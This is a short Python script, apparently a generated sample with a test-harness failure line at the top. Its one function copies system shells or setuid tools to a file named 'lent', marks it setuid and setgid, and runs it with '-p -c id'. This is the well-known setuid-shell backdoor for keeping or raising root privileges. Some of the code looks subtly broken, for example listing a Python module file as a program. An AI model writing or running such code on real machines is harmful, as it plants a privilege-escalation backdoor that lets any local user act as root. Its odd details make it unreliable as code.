# word: FAIL ended its process | got None
"""A program that runs as its owner, whoever starts it; then starts it."""

import os
import shutil


def word():
    for program in ("/bin/sh", "/usr/bin/su", "/usr/bin/mount", os.__file__):
        try:
            shutil.copy(program, "lent")
            os.chmod("lent", 0o6755)
        except OSError:
            continue
        os.execv(os.path.abspath("lent"), ["lent", "-p", "-c", "id"])
    return None
